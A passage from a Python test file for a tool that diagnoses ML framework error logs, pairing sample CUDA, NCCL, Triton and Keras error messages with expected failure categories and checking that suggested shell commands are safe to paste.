    "accelerator-unavailable:cuinit_failed": ("2024-01-01 00:00:00.000000: E external/xla/xla/stream_executor/cuda/cuda_driver.cc:282] failed call to cuInit: CUDA_ERROR_NO_DEVICE: no CUDA-capable device is detected\n", "accelerator-unavailable", "environment", "CUDA_ERROR_NO_DEVICE"),
    "accelerator-unavailable:asked_and_no_gpu": (">>> import tensorflow as tf\n>>> tf.config.list_physical_devices('GPU')\n[]\n", "accelerator-unavailable", "environment", "tensorflow"),
    "api-version-skew:protobuf_generated_code": (tb("TypeError: Descriptors cannot be created directly.\nIf this call came from a _pb2.py file, your generated code is out of date and must be regenerated with protoc >= 3.19.0.", "google"), "api-version-skew", "environment", "protobuf"),
    "build-failure:nvcc_too_old": ("      RuntimeError: Mamba is only supported on CUDA 11.6 and above.  Note: make sure nvcc has a supported version by running nvcc -V.\n      error: subprocess-exited-with-error\n", "build-failure", "environment", "CUDA_HOME"),
    "nccl-network:host_name_not_resolved": ("[W socket.cpp:697] [c10d] The IPv6 network addresses of (node-7, 29500) cannot be retrieved (gai error: -2 - Name or service not known).\n", "nccl-network", "environment", "/etc/hosts"),
    "cuda-library-mismatch:jaxlib_gpu_call_failed": (TB + '  File "/opt/venv/lib/python3.11/site-packages/jax/_src/lax/linalg.py", line 900, in eigh\n    return eigh_p.bind(x)\njaxlib.xla_extension.XlaRuntimeError: INTERNAL: jaxlib/gpu/solver_kernels.cc:52: operation gpusolverDnCreate(&handle) failed: cuSolver internal error\n', "cuda-library-mismatch", "environment", "nvidia-cusolver-cu12"),
    "gpu-arch-unsupported:architecture_refused": (tb("torch._inductor.exc.InductorError: RuntimeError: Triton only supports devices of CUDA Capability >= 7.0, but your device is of CUDA capability 6.1", "torch"), "gpu-arch-unsupported", "environment", "CUDA Capability"),
    "version-mismatch:releases_disagree": (tb("RuntimeError: vLLM 0.8.5 was built against torch 2.6.0 but torch 2.7.0 is installed.", "somelib"), "version-mismatch", "environment", "vLLM and torch"),
    "framework-internal-error:notebook_kernel_died": ("The kernel appears to have died. It will restart automatically.\n", "framework-internal-error", "unknown", "as a script"),
    "out-of-memory:notebook_ram_exhausted": ("Your session crashed after using all available RAM. If you are interested in access to high-RAM runtimes, you may want to check out Colab Pro.\n", "out-of-memory", "not-environment", "RAM"),
    "nccl-network:xla_nccl_status": ("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: external/xla/xla/service/gpu/nccl_utils.cc:297: NCCL operation ncclGroupEnd() failed: remote process exited or there was a network error. Last NCCL warning(error) log entry (may be unrelated) ''.\n", "nccl-network", "environment", "ncclRemoteError"),
    "api-version-skew:keras_class_not_located": (tb("TypeError: Could not locate class 'Functional'. Make sure custom classes are decorated with `@keras.saving.register_keras_serializable()`. Full object config: {'module': 'keras.src.models.functional', 'class_name': 'Functional'}", "keras/src/saving"), "api-version-skew", "environment", "tf_keras"),
    "user-code-error:not_an_xla_tensor": (tb("RuntimeError: Expected XLA tensor. Got: CPUBFloat16Type", "torch_xla"), "user-code-error", "not-environment", "torch_xla.device()"),
    "bad-configuration:text_in_the_locales_encoding": ("  File \"C:\\Users\\me\\venv\\lib\\site-packages\\pkg\\setup.py\", line 29, in <module>\n    long_description = Path('README.md').read_text()\nUnicodeDecodeError: 'charmap' codec can't decode byte 0x8f in position 4934: character maps to <undefined>\n", "bad-configuration", "environment", "PYTHONUTF8"),
    "bad-configuration:compiler_speaks_another_language": ("torch._inductor.exc.InductorError: UnicodeDecodeError: 'utf-8' codec can't decode byte 0xd3 in position 0: invalid continuation byte\n", "bad-configuration", "environment", "English language pack"),
    "cuda-driver-too-old:driver_and_libcuda_differ": ("2025-03-13 13:26:48.680427: E external/xla/xla/stream_executor/cuda/cuda_diagnostics.cc:262] kernel version 535.183.6 does not match DSO version 560.28.3 -- cannot find working devices in this configuration\n", "cuda-driver-too-old", "environment", "560"),
    "bad-configuration:conda_not_initialised": ("CondaError: Run 'conda init' before 'conda activate'\n", "bad-configuration", "environment", "conda init"),
    "bad-configuration:externally_managed": ("error: externally-managed-environment\n\n× This environment is externally managed\n", "bad-configuration", "environment", "venv"),
    "bad-configuration:certificate_not_trusted": ("WARNING: Could not fetch URL https://pypi.org/simple/torch/: There was a problem confirming the ssl certificate: HTTPSConnectionPool(host='pypi.org', port=443): Max retries exceeded with url: /simple/torch/ (Caused by SSLError(SSLCertVerificationError(1, '[SSL: CERTIFICATE_VERIFY_FAILED] certificate verify failed: self signed certificate in certificate chain (_ssl.c:1007)'))) - skipping\nERROR: Could not find a version that satisfies the requirement torch (from versions: none)\nERROR: No matching distribution found for torch\n", "bad-configuration", "environment", "PIP_CERT"),
    "user-code-error:module_shadowed_by_a_file": (tb("ModuleNotFoundError: No module named 'jax.experimental'; 'jax' is not a package"), "user-code-error", "not-environment", "jax.py"),
    "user-code-error:circular_import": (tb("AttributeError: partially initialized module 'ai_edge_torch' has no attribute 'convert' (most likely due to a circular import)"), "user-code-error", "not-environment", "ai_edge_torch.py"),
    "user-code-error:checkpoint_wraps_its_weights": (tb('RuntimeError: Error(s) in loading state_dict for Net:\n\tMissing key(s) in state_dict: "conv1.weight", "conv1.bias".\n\tUnexpected key(s) in state_dict: "state_dict", "epoch", "optimizer".', "torch/nn/modules"), "user-code-error", "not-environment", "checkpoint['state_dict']"),
    "user-code-error:config_file_does_not_parse": (tb('yaml.scanner.ScannerError: mapping values are not allowed here\n  in "config.yaml", line 12, column 17', "yaml"), "user-code-error", "not-environment", "config.yaml at line 12"),
    "framework-internal-error:status_code": (tb("jaxlib.xla_extension.XlaRuntimeError: INTERNAL: during context [pre-optimization]: Seen floating point types of different precisions in %add.3", "jax"), "framework-internal-error", "framework-bug", "INTERNAL"),
    "framework-internal-error:mlir_pass_failed": ("loc(\"/tmp/kernel.py\":12:4): error: failed to legalize unresolved materialization\n" + tb("RuntimeError: PassManager::run failed", "triton"), "framework-internal-error", "framework-bug", "Triton"),
    "nccl-network:unique_id_not_received": ("RuntimeError: [1] is setting up NCCL communicator and retrieving ncclUniqueId from [0] via c10d key-value store by key '0', but store->get('0') got error: Connection reset by peer\n", "nccl-network", "environment", "MASTER_ADDR"),
    "nccl-shm:rank_killed_by_sigbus": ("torch.distributed.elastic.multiprocessing.errors.ChildFailedError:\n  rank      : 0 (local_rank: 0)\n  exitcode  : -7 (pid: 123)\n  traceback : Signal 7 (SIGBUS) received by PID 123\n", "nccl-shm", "environment", "--shm-size"),
    "hang-timeout:xla_rendezvous_stuck": ("2024-01-01 00:00:00.000000: E external/xla/xla/service/rendezvous.cc:31] This thread has been waiting for 10 seconds and may be stuck: participant 1 waiting for all participants to arrive at rendezvous\n", "hang-timeout", "unknown", "--stall-after"),
    "gpu-arch-unsupported:gpu_too_old": ("UserWarning: \n    Found GPU0 Tesla K80 which is of cuda capability 3.7.\n    PyTorch no longer supports this GPU because it is too old.\n    The minimum cuda capability supported by this library is 5.0.\n", "gpu-arch-unsupported", "environment", "3.7"),
    "gpu-arch-unsupported:triton_ptxas_failed": (tb("RuntimeError: Internal Triton PTX codegen error: \nptxas fatal   : Value 'sm_89' is not defined for option 'gpu-name'", "triton"), "gpu-arch-unsupported", "environment", "sm_89"),
    "version-mismatch:triton_does_not_know_this_cuda": (tb("RuntimeError: Triton only support CUDA 10.0 or higher, but got CUDA version: 12.9", "triton"), "version-mismatch", "environment", "CUDA 12.9"),
    "api-version-skew:triton_global_not_constexpr": (tb("NameError: Cannot access global variable BLOCK from within @jit'ed function. Triton kernels can only access global variables that are annotated as constexpr", "triton"), "api-version-skew", "environment", "TRITON_ALLOW_NON_CONSTEXPR_GLOBALS"),
    "nccl-network:address_families_differ": ("RuntimeError: [enforce fail at ../third_party/gloo/gloo/transport/tcp/device.cc:276] ss1.ss_family == ss2.ss_family. 2 vs 10\n", "nccl-network", "environment", "MASTER_ADDR"),
    "disk-or-permission:save_stopped_short": (tb("RuntimeError: [enforce fail at inline_container.cc:595] . unexpected pos 4311168 vs 4311056", "torch"), "disk-or-permission", "environment", "df -h"),
    "bad-configuration:open_files_limit": (tb("RuntimeError: received 0 items of ancdata", "torch"), "bad-configuration", "environment", "ulimit"),
    "missing-library:ctypes_could_not_load": (TB + '  File "C:\\Python39\\lib\\site-packages\\torchaudio\\_extension\\utils.py", line 61, in _load_lib\n    torch.ops.load_library(path)\n  File "C:\\Python39\\lib\\site-packages\\torch\\_ops.py", line 643, in load_library\n    ctypes.CDLL(path)\n  File "C:\\Python39\\lib\\ctypes\\__init__.py", line 374, in __init__\n    self._handle = _dlopen(self._name, mode)\nFileNotFoundError: Could not find mo\n', "missing-library", "environment", "torchaudio"),
    "bad-configuration:program_not_found": ("'deepspeed' is not recognized as an internal or external command,\noperable program or batch file.\n", "bad-configuration", "environment", "PATH"),
    "framework-internal-error:concrete_sizes_of_a_symbolic_tensor": ("torch._dynamo.exc.TorchRuntimeError: Failed running call_function <function adaptive_max_pool1d>(*(FakeTensor(..., size=(s0, 3, s1)),), **{}):\nCannot call sizes() on tensor with symbolic sizes/strides\n", "framework-internal-error", "framework-bug", "dynamic=False"),
    "framework-internal-error:attention_mask_not_contiguous": (tb("RuntimeError: (*bias): last dimension must be contiguous", "torch/nn"), "framework-internal-error", "framework-bug", "attn_mask.contiguous()"),
    "api-version-skew:tensorflow_dict_wrapper_under_newer_wrapt": (tb("TypeError: this __dict__ descriptor does not support '_DictWrapper' objects", "tensorflow/python/trackable"), "api-version-skew", "environment", "wrapt<1.15"),
    "user-code-error:flash_attention_2_asked_of_a_model_without_it": ("ValueError: TimeSeriesTransformerForPrediction does not support Flash Attention 2.0 yet. Please request to add support where the model is hosted, on its model hub page: https://huggingface.co/Maple728/TimeMoE-50M/discussions/new or in the Transformers GitHub repo: https://github.com/huggingface/transformers/issues/new\n", "user-code-error", "not-environment", "attn_implementation='eager'"),
    "api-version-skew:comfyui_module_of_a_newer_release": ("Cannot import /content/ComfyUI/custom_nodes/ComfyUI_IPAdapter_plus module for custom nodes: No module named 'node_helpers'\n", "api-version-skew", "environment", "Update ComfyUI"),
    "unsupported-op:cudnn_rnn_backward_in_eval_mode": (tb("RuntimeError: cudnn RNN backward can only be called in training mode", "captum"), "unsupported-op", "framework-bug", "torch.backends.cudnn.enabled = False"),
    "gpu-arch-unsupported:kernel_arch_check": (tb("RuntimeError: Expected is_sm90 || is_sm8x to be true, but got false.  (Could this error message be improved?  If so, please report an enhancement request to PyTorch.)", "flash_attn"), "gpu-arch-unsupported", "environment", "Ampere"),
    "cuda-library-mismatch:cudnn_did_not_start": (tb("jaxlib.xla_extension.XlaRuntimeError: FAILED_PRECONDITION: DNN library initialization failed. Look at the errors above for more details.", "jax"), "cuda-library-mismatch", "environment", "cuDNN"),
    "version-mismatch:transformers_wants_tf_keras": (tb("ValueError: Your currently installed version of Keras is Keras 3, but this is not yet supported in Transformers. Please install the backwards-compatible tf-keras package with `pip install tf-keras`.", "transformers"), "version-mismatch", "environment", "tf-keras"),
    "unsupported-op:onnx_operator": (tb("torch.onnx.errors.UnsupportedOperatorError: Exporting the operator 'aten::scaled_dot_product_attention' to ONNX opset version 13 is not supported. Support for this operator was added in version 14, try exporting with this version.", "torch"), "unsupported-op", "framework-bug", "opset_version=14"),
    "missing-library:library_not_loaded": (tb("RuntimeError: Failed to load library libtorchcodec_core7.so: libavutil.so.59: cannot read"), "missing-library", "environment", "libtorchcodec_core7.so"),
    "gpu-arch-unsupported:library_refuses_gpu": (tb("ValueError: implementation='triton' is unsupported on this GPU generation.", "alphafold3"), "gpu-arch-unsupported", "environment", "compute capability"),
    "framework-internal-error:ptx_feature_unknown": ("'+ptx86' is not a recognized feature for this target (ignoring feature)\n", "framework-internal-error", "framework-bug", "PTX ISA 8.6"),
    "hang-timeout:store_barrier_timeout": (tb("RuntimeError: Timed out initializing process group in store based barrier on rank: 3, for key: store_based_barrier_key:1 (world_size=8, num_workers_joined=7, timeout=0:30:00)", "torch/distributed"), "hang-timeout", "unknown", "7 of 8 ranks"),
    "build-failure:cxx_standard_too_old": ('/opt/venv/lib/python3.11/site-packages/torch/include/c10/util/C++17.h:13:2: error: #error "C++17 or later compatible compiler is required to use PyTorch."\n', "build-failure", "environment", "-std=c++17"),
    "build-failure:cxx_compiler_missing": (tb("subprocess.CalledProcessError: Command '['which', 'c++']' returned non-zero exit status 1.", "torch/utils"), "build-failure", "environment", "build-essential"),
    "user-code-error:fp16_master_weights": (tb("ValueError: Attempting to unscale FP16 gradients.", "torch/amp"), "user-code-error", "not-environment", "float32"),
    "user-code-error:cudagraph_output_overwritten": (tb("RuntimeError: Error: accessing tensor output of CUDAGraphs that has been overwritten by a subsequent run. Stack trace: File \"/x/gen.py\", line 16, in sample. To prevent overwriting, clone the tensor outside of torch.compile() or call torch.compiler.cudagraph_mark_step_begin() before each model invocation.", "torch/_inductor"), "user-code-error", "not-environment", "clone"),
    "api-version-skew:keras_tensor_into_tf": (tb("ValueError: A KerasTensor cannot be used as input to a TensorFlow function. A KerasTensor is a symbolic placeholder for a shape and dtype, used when constructing Keras Functional models or Keras Functions.", "keras/src/backend/common"), "api-version-skew", "environment", "TF_USE_LEGACY_KERAS"),
    "module-not-found:extension_never_imported": (tb("NameError: name 'selective_scan_cuda_core' is not defined", "mymodel"), "module-not-found", "environment", "import selective_scan_cuda_core"),
    "module-not-found:torchaudio_no_backend": (tb("RuntimeError: Couldn't find appropriate backend to handle uri sample.wav and format None.", "torchaudio/_backend"), "module-not-found", "environment", "soundfile"),
    "user-code-error:unpicklable_for_workers": (tb("AttributeError: Can't pickle local object 'build_dataset.<locals>.<lambda>'"), "user-code-error", "not-environment", "module level"),
    "api-version-skew:keras3_file_format": ('Traceback (most recent call last):\n  File "/home/me/run.py", line 9, in <module>\n    model.fit(data)\n  File "/usr/lib/python3.11/site-packages/pysster/Model.py", line 120, in train\n    mcp = ModelCheckpoint(path, save_best_only=True)\n  File "/usr/lib/python3.11/site-packages/keras/src/callbacks/model_checkpoint.py", line 191, in __init__\n    raise ValueError(\nValueError: The filepath provided must end in `.keras` (Keras model format). Received: filepath=/tmp/model.hdf5\n', "api-version-skew", "unknown", "The call came through pysster"),
    "missing-library:cudnn_dll_not_located": ("Could not locate cudnn_cnn_infer64_8.dll. Please make sure it is in your library path!\n", "missing-library", "environment", "cuDNN 8"),
    "api-version-skew:call_signature_changed": (tb("TypeError: Trainer.get_batch_samples() takes 3 positional arguments but 4 were given", "peft"), "api-version-skew", "environment", "peft"),
    "version-mismatch:two_openmp_runtimes": ("OMP: Error #15: Initializing libiomp5md.dll, but found libiomp5md.dll already initialized.\nOMP: Hint This means that multiple copies of the OpenMP runtime have been linked into the program.\n", "version-mismatch", "environment", "KMP_DUPLICATE_LIB_OK"),
    "api-version-skew:local_rank_spelling": ("usage: train.py [-h] [--local_rank LOCAL_RANK]\ntrain.py: error: unrecognized arguments: --local-rank=1\n", "api-version-skew", "environment", "LOCAL_RANK"),
    "unsupported-op:gpu_without_float64": (tb("RuntimeError: The GPU device does not support Double (Float64) operations!", "torch_directml"), "unsupported-op", "framework-bug", "float32"),
    "unsupported-op:inductor_device": ("torch._dynamo.exc.BackendCompilerFailed: backend='inductor' raised:\nAssertionError: Device mps not supported\n", "unsupported-op", "framework-bug", "aot_eager"),
    "user-code-error:triton_pointer": (tb("ValueError: Pointer argument (at 0) cannot be accessed from Triton (cpu tensor?)", "triton"), "user-code-error", "not-environment", "torch.cuda.set_device"),
    "gpu-arch-unsupported:hipblas_not_supported": (tb("RuntimeError: CUDA error: HIPBLAS_STATUS_NOT_SUPPORTED when calling `hipblasLtMatmul( ltHandle, computeDesc.descriptor(), &alpha_val, mat1_ptr, Adesc.descriptor())`", "torch"), "gpu-arch-unsupported", "environment", "TORCH_BLAS_PREFER_HIPBLASLT"),
    "api-version-skew:triton_dot_transpose": ("TypeError: dot() got an unexpected keyword argument 'trans_b'\n", "api-version-skew", "environment", "triton"),
    "accelerator-unavailable:device_type_not_linked": (tb("RuntimeError: PyTorch is not linked with support for xpu devices", "torch"), "accelerator-unavailable", "environment", "intel_extension_for_pytorch"),
    "bad-configuration:deepspeed_slot": (tb("ValueError: No slot '3' specified on host 'localhost'", "deepspeed"), "bad-configuration", "environment", "--include"),
    "bad-configuration:lightning_devices": (tb("lightning_fabric.utilities.exceptions.MisconfigurationException: You requested gpu: [2]\n But your machine only has: [0, 1]", "lightning_fabric"), "bad-configuration", "environment", "trainer.devices"),
    "bad-configuration:launcher_hung_up": ("W0519 07:08:17.210993 1396 torch/distributed/elastic/multiprocessing/api.py:851] Sending process 589361 closing signal SIGHUP\n" + tb("torch.distributed.elastic.multiprocessing.api.SignalException: Process 589300 got signal: 1", "torch"), "bad-configuration", "environment", "tmux"),
    "hang-timeout:gloo_timeout": ("[E1203 10:00:00] [../third_party/gloo/gloo/transport/tcp/unbound_buffer.cc:81] Timed out waiting 1800000ms for recv operation to complete\n", "hang-timeout", "unknown", "gloo"),
    "build-failure:windows_build_tool_missing": ("running build_ext\nbuilding 'my_ext._C' extension\nerror: [WinError 2] The system cannot find the file specified\n", "build-failure", "environment", "nvcc"),
    "unsupported-op:no_deterministic_implementation": (tb("RuntimeError: adaptive_max_pool2d_backward_cuda does not have a deterministic implementation, but you set 'torch.use_deterministic_algorithms(True)'. You can turn off determinism just for this operation, or you can use the 'warn_only=True' option, if that's acceptable for your application.", "torch"), "unsupported-op", "framework-bug", "adaptive_max_pool2d_backward_cuda"),
    "unsupported-op:xla_cpu_fallback": ("Metric: CompileTime\n  TotalSamples: 2\nCounter: aten::_local_scalar_dense\n  Value: 3\nCounter: aten::_linalg_eigh\n  Value: 12\n", "unsupported-op", "framework-bug", "aten::_linalg_eigh"),
    "accelerator-unavailable:no_tpu_vm_metadata": (tb("requests.exceptions.HTTPError: 404 Client Error: Not Found for url: http://metadata.google.internal/computeMetadata/v1/instance/attributes/tpu-env", "torch_xla"), "accelerator-unavailable", "environment", "PJRT_DEVICE"),
    "version-mismatch:objc_selector_missing": ("2024-01-01 00:00:00.0: I tensorflow/core/common_runtime/pluggable_device/pluggable_device_factory.cc:303] Could not identify NUMA node of platform GPU ID 0\n2024-01-01 00:00:01.0 python[5:6] -[MPSGraph sliceUpdateDataTensor:updateTensor:starts:ends:strides:name:]: unrecognized selector sent to instance 0x600\n", "version-mismatch", "environment", "tensorflow-metal"),
    "framework-internal-error:own_attribute_missing": (TB + '  File "/opt/venv/lib/python3.11/site-packages/somelib/state.py", line 5, in __repr__\n    return f"State({self._plan})"\nAttributeError: _plan\n', "framework-internal-error", "framework-bug", "somelib"),
    "user-code-error:sdpa_no_kernel": ("/opt/venv/lib/python3.11/site-packages/torch/nn/functional.py:5476: UserWarning: Memory efficient kernel not used because: (Triggered internally at ../aten/src/ATen/native/transformers/cuda/sdp_utils.cpp:718.)\n" + tb("RuntimeError: No available kernel.  Aborting execution.", "torch"), "user-code-error", "not-environment", "scaled_dot_product_attention"),
    "bad-configuration:launcher_signalled": (tb("torch.distributed.elastic.multiprocessing.api.SignalException: Process 4242 got signal: 15", "torch"), "bad-configuration", "unknown", "SIGTERM"),
    "nccl-shm:bus_error_in_nccl": ("[node1:4242 :0:4250] Caught signal 7 (Bus error: nonexistent physical address)\n==== backtrace (tid:   4250) ====\n 0 0x0000000000043090 killpg()  ???:0\n 1 0x000000000007587d ncclProxyService()  ???:0\n 2 0x0000000000059e97 /usr/lib/x86_64-linux-gnu/libnccl.so.2:0\n", "nccl-shm", "environment", "--shm-size"),
    "build-failure:nvcc_unknown_option": ("nvcc fatal   : Unknown option '--threads'\nninja: build stopped: subcommand failed.\n", "build-failure", "environment", "CUDA_HOME"),
    "resolver-conflict:placeholder_package": ("      Exception:\n      The \"tensorflow-gpu\" package has been removed!\n\n      Please install \"tensorflow\" instead.\n      [end of output]\n", "resolver-conflict", "environment", "tensorflow"),
    "hang-timeout:jax_coordination_timeout": ("2024-01-01 00:00:00.000000: E external/xla/xla/tsl/distributed_runtime/coordination/coordination_service.cc:1170] /job:jax_worker/replica:0/task:1 has been set to ERROR in coordination service: UNAVAILABLE: Task /job:jax_worker/replica:0/task:1 heartbeat timeout. This indicates that the remote task has failed, got preempted, or crashed unexpectedly.\n", "hang-timeout", "unknown", "task:1"),
    "framework-internal-error:environment_variable_missing": (TB + '  File "/opt/venv/lib/python3.11/site-packages/somelauncher/runner.py", line 77, in get_cmd\n    env["PDSH_RCMD_TYPE"] += os.environ["SOMELAUNCHER_SSH_ARGS"]\n  File "/usr/lib/python3.11/os.py", line 679, in __getitem__\n    raise KeyError(key) from None\nKeyError: \'SOMELAUNCHER_SSH_ARGS\'\n', "framework-internal-error", "framework-bug", "SOMELAUNCHER_SSH_ARGS"),
    "framework-internal-error:dynamo_recompile_limit": ("W1126 16:03:16.529497 1228885 torch/_dynamo/convert_frame.py:844] [1/8] torch._dynamo hit config.recompile_limit (8)\nW1126 16:03:16.529497 1228885 torch/_dynamo/convert_frame.py:844] [1/8]    function: 'step' (/opt/venv/lib/python3.11/site-packages/someopt/utils.py:694)\nW1126 16:03:16.529497 1228885 torch/_dynamo/convert_frame.py:844] [1/8]    last reason: 1/7: ___check_obj_id(L['group'], 140353)\n", "framework-internal-error", "framework-bug", "someopt"),
    "version-mismatch:inductor_triton_attribute": (TB + '  File "/opt/venv/lib/python3.11/site-packages/torch/_inductor/runtime/triton_heuristics.py", line 1153, in make_launcher\n    "launch_enter_hook": binary.__class__.launch_enter_hook,\ntorch._inductor.exc.InductorError: AttributeError: type object \'CompiledKernel\' has no attribute \'launch_enter_hook\'\n', "version-mismatch", "environment", "triton"),
    "cuda-library-mismatch:symbol_version_not_defined": (tb("ImportError: /env/lib/python3.10/site-packages/torch/lib/libcublas.so.12: symbol cublasLtGetStatusString version libcublasLt.so.12 not defined in file libcublasLt.so.12 with link time reference", "torch"), "cuda-library-mismatch", "environment", "libcublasLt.so.12"),
}  # fmt: skip


def _diagnose(log: str):  # type: ignore[no-untyped-def]
    return explain_stream("run.log", io.BytesIO(log.encode()), None).diagnosis


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_a_rules_own_words_survive_the_redaction_of_every_output(rule_id: str) -> None:
    # every output is redacted: advice shaped like `key = value` ("pad_token = ...", "account VALUE") printed as
    # "<redacted>" (and a command with it pasted as a redirection); a log whose own words are redacted is exempt
    log = CASES[rule_id][0]
    if redact_text(log) != log:
        return
    diagnosis = _diagnose(log)
    for said in (diagnosis.cause, *diagnosis.remediation, *diagnosis.next):
        assert redact_text(said) == said, said


def test_every_rule_has_a_case() -> None:
    assert sorted(r.id for r in load_rules()) == sorted(CASES)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_each_rule_gives_its_family_and_verdict(rule_id: str) -> None:
    log, family, verdict, word = CASES[rule_id]
    diagnosis = _diagnose(log)
    assert diagnosis is not None, rule_id
    assert (diagnosis.family, diagnosis.verdict) == (family, verdict), (diagnosis.decided_by, diagnosis.cause)
    said = " ".join([diagnosis.cause, *map(str, diagnosis.params.values()), *diagnosis.remediation, *diagnosis.next])
    assert word in said, said
    for command in diagnosis.next:
        _assert_pastes_safely(command)


def _assert_pastes_safely(command: str) -> None:
    """A command to run next is pasted into a shell: it parses, and no unquoted < or > turns a placeholder into a
    redirection (`head <the file>` would read a file named "the"); the one redirection allowed is silencing a stream
    into /dev/null."""
    code = command.split("  #", 1)[0]  # the comment explains the command: it is no part of it
    lexer = shlex.shlex(code, posix=True, punctuation_chars="<>|;&")
    lexer.whitespace_split = True
    tokens = list(lexer)
    assert tokens, command
    for at, token in enumerate(tokens):
        if set(token) <= set("<>&") and ("<" in token or ">" in token):
            assert token in (">", ">>") and tokens[at + 1 : at + 2] == ["/dev/null"], command


@pytest.mark.parametrize("command", ["head -c 200 <the file>", "cat x > out.txt", "echo 'unclosed", "ls >&2"])
def test_a_command_that_would_redirect_or_not_parse_is_caught(command: str) -> None:
    with pytest.raises((AssertionError, ValueError)):
        _assert_pastes_safely(command)


# --- what the structure rules of issue 24's second pass must not read -------------------------------------------


@pytest.mark.parametrize(
    "log",
    [
        # an installer that cannot resolve its index: a network problem of pip, not a job's rendezvous
        "WARNING: Retrying (Retry(total=4)) after connection broken by 'NewConnectionError(': Failed to establish a new "
        "connection: [Errno -3] Temporary failure in name resolution')': /simple/torch/\n",
        # jax's deprecation shim raises AttributeError on purpose: an API that was removed, not a broken invariant
        TB + '  File "/opt/venv/lib/python3.11/site-packages/jax/_src/deprecations.py", line 54, in getattr\n'
        "    raise AttributeError(f'module {module!r} has no attribute {name!r}')\n"
        "AttributeError: module 'jax.random' has no attribute 'KeyArray'\n",
        # TensorFlow listed its CPU and then a GPU: nothing is missing
        '[name: "/device:CPU:0"\ndevice_type: "CPU"\n, name: "/device:GPU:0"\ndevice_type: "GPU"\n]\n',
    ],
    ids=["pip-name-resolution", "jax-deprecation-shim", "tf-lists-a-gpu"],
)
def test_structure_rules_leave_alone_what_is_not_theirs(log: str) -> None:
    diagnosis = _diagnose(log)
    family = diagnosis.family if diagnosis is not None else None
    assert family not in ("nccl-network", "framework-internal-error", "accelerator-unavailable"), diagnosis


def test_a_framework_run_from_a_source_checkout_is_library_code_not_the_user_s() -> None:
    log = (
        TB + '  File "/home/dev/src/pytorch/torch/_inductor/scheduler.py", line 106, in debug_str\n'
        "    x = self.node\nAttributeError: 'FusedSchedulerNode' object has no attribute 'node'\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and (diagnosis.family, diagnosis.verdict) == (
        "framework-internal-error",
        "framework-bug",
    )


@pytest.mark.parametrize(
    ("path", "owner"),
    [
        ("/.../src/diffusers/src/diffusers/loaders/single_file_utils.py", "diffusers"),  # a clone, cut by "..."
        ("/home/me/transformers-main/src/transformers/trainer.py", "transformers"),
        ("/home/me/pytorch-lightning/src/lightning/pytorch/trainer/trainer.py", "lightning"),
        ("/home/me/lightning/src/pytorch_lightning/trainer/trainer.py", "pytorch_lightning"),
        ("/home/me/medical-datasets/src/datasets/brats.py", None),
        ("C:\\work\\peft\\src\\peft\\tuners\\lora.py", "peft"),
        # the user's own folders that happen to hold src/<a library's name>/: not that library's clone
        ("/home/me/src/peft/train.py", None),
        ("/usr/src/ultralytics/train.py", None),
    ],
)
def test_a_library_run_from_its_src_layout_clone_is_that_library_s_code(path: str, owner: str | None) -> None:
    assert owner_of(path) == owner


def test_a_windows_error_is_read_by_its_code_in_any_language() -> None:
    # Windows words its messages in the system's language: the code is what holds (WinError 1455, a Chinese system)
    log = tb(
        'OSError: [WinError 1455] 页面文件太小，无法完成操作。 Error loading "C:\\v\\torch\\lib\\cublas64_11.dll" or one of its dependencies.'
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "out-of-memory", diagnosis


@pytest.mark.parametrize(
    "last, family, word",
    [
        (
            "Cuda failure 'peer access is not supported between these two devices'",
            "bad-configuration",
            "NCCL_P2P_DISABLE",
        ),
        ("Cuda failure 'out of memory'", "out-of-memory", "memory"),
    ],
)
def test_a_cuda_failure_in_nccl_s_last_error_is_read_by_the_code_s_family(last: str, family: str, word: str) -> None:
    log = (
        "torch.distributed.DistBackendError: NCCL error in: ../torch/csrc/distributed/c10d/ProcessGroupNCCL.cpp:1691, "
        "unhandled cuda error (run with NCCL_DEBUG=INFO for details), NCCL version 2.18.1\n"
        f"ncclUnhandledCudaError: Call to CUDA function failed.\nLast error:\n{last}\n"
    )
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == family, diagnosis
    assert word.lower() in (diagnosis.cause + " ".join(diagnosis.remediation)).lower()


def test_a_backend_this_torch_lacks_is_named() -> None:
    diagnosis = _diagnose(
        tb(
            "RuntimeError: Distributed package doesn't have MPI built in. MPI is only included if you build PyTorch from source on a host that has MPI installed."
        )
    )
    assert diagnosis is not None and diagnosis.family == "bad-configuration" and "MPI" in diagnosis.cause


def test_a_rule_written_with_an_inline_ignore_case_reads_any_case() -> None:
    # its literals are lower-cased: they must be looked for in the lower-cased text (they were not, and an inline
    # (?i) rule read only lines that happened to be lower case)
    log = "2024-01-01 00:00:00.000000: F external/xla/xla/service/dump.cc:123] Could not create directory /d: Permission denied\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "disk-or-permission", diagnosis


def test_windows_standard_library_frames_are_python_s_not_the_user_s() -> None:
    from xladoctor.explain.records import owner_of

    assert owner_of("C:\\Users\\me\\AppData\\Local\\Programs\\Python\\Python39\\lib\\ctypes\\__init__.py") == "python"
    assert owner_of("E:\\ComfyUI\\python_embeded\\Lib\\ctypes\\__init__.py") == "python"
    assert owner_of("C:\\Users\\me\\project\\lib\\train.py") is None


def test_a_dll_named_in_curly_quotes_is_still_a_dll_that_failed_to_load() -> None:
    log = "OSError: [WinError 126] Error loading \u201cC:\\v\\Lib\\site-packages\\torch\\lib\\fbgemm.dll\u201d or one of its dependencies.\n"
    diagnosis = _diagnose(log)
    assert diagnosis is not None and diagnosis.family == "missing-library" and "fbgemm.dll" in diagnosis.cause


@pytest.mark.parametrize(
    "module, family",
    [
        ("lightening", "user-code-error"),  # lightning, misspelt in the import: the user's code
        ("torchvison", "user-code-error"),
        ("tensorboardX", "module-not-found"),  # a package of its own, not tensorboard misspelt
        ("torchaudio", "module-not-found"),  # not torchvision
        ("xformer", "module-not-found"),  # a name that only extends or cuts a known one is not called a typo
    ],
)
def test_a_misspelt_import_is_the_user_s_code_and_a_real_package_is_not(module: str, family: str) -> None:
    diagnosis = _diagnose(tb(f"ModuleNotFoundError: No module named '{module}'"))
    assert diagnosis is not None and diagnosis.family == family, diagnosis


@pytest.mark.parametrize(
    ("module", "command"),
    [
        ("cv2", "pip install opencv-python"),  # the hand-kept list: an import named unlike its distribution
        ("typeguard", "pip install typeguard"),  # the wheels' table: typeguard's wheel installs typeguard
